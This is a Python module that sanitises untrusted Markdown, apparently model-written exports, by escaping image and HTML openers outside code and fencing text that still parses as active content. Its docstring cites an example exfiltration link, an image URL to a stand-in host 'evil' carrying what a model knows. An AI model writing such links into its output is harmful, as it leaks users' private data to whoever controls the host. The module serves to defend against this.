"""Markdown that somebody wrote, changed so that no viewer loads anything for it: an image becomes a link.

Whoever makes a model write `![](https://evil/?what=it+knows)` would otherwise be told by whoever opens the export.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

from markdown_it import MarkdownIt
from markdown_it.token import Token

# Code stays as it is: a fenced block up to its end or that of the text, or a span between equal runs of backticks.
_CODE = re.compile(
    r"^ {0,3}(?P<fence>`{3,}|~{3,})[^\n]*\n(?:.*?\n)?(?: {0,3}(?P=fence)[`~]*[ \t]*$|\Z)"
    r"|(?<!`)(?P<span>`+)(?!`)[^`\n]*(?<!`)(?P=span)(?!`)",
    re.M | re.S,
)
# What begins an image, a tag, a comment or an instruction, and how many backslashes stand before it.
_LOADS = re.compile(r"(\\*)(!\[|<(?=[A-Za-z/!?]))")
_BEHIND = "what stands behind it"
_ACTIVE = ("image", "html_block", "html_inline")
_parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def inert(text: str) -> str:
    """The same text with a backslash before what begins an image or a tag, outside of code.

    It is read once more by a parser: where that finds an image all the same, or code that does not end with the text
    and so would turn what follows inside out, all of it becomes code.
    """
    found = "".join(_pieces(text))
    tokens = _parser.parse(f"{found}\n\n{_BEHIND}")
    ends = tokens[-2:-1] and tokens[-2].content == _BEHIND and tokens[-3].level == 0
    return found if ends and not any(token.type in _ACTIVE for token in _all(tokens)) else fenced(text)


def escaped(line: str) -> str:
    """A line of somebody's in which nothing is Markdown."""
    return re.sub(r"([\\`*_\[\]<>#!])", r"\\\1", line)


def fenced(text: str) -> str:
    """Between marks that are longer than any in it."""
    longest = max((len(run) for run in re.findall("`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}\n{text}\n{fence}"


def _pieces(text: str) -> Iterator[str]:
    at = 0
    for code in _CODE.finditer(text):
        yield _LOADS.sub(_held, text[at : code.start()])
        yield code[0]
        at = code.end()
    yield _LOADS.sub(_held, text[at:])


def _held(found: re.Match[str]) -> str:
    """An odd number of backslashes keeps it from being anything already."""
    return found[0] if len(found[1]) % 2 else f"{found[1]}\\{found[2]}"


def _all(tokens: Iterable[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _all(token.children or ())
